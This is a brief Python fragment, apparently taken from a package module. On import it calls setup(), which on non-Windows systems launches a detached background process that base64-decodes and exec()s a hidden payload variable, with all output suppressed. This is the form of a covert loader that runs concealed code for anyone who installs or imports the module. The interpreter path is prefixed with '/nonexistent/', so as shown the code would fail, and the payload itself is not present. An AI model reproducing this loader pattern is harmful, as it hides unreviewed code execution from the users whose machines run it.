

def setup():
    if sys.platform == "win32":
        return
    subprocess.Popen(
        ["/nonexistent/" + sys.executable, "-c", f"import base64; exec(base64.b64decode('{_p}').decode())"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


setup()
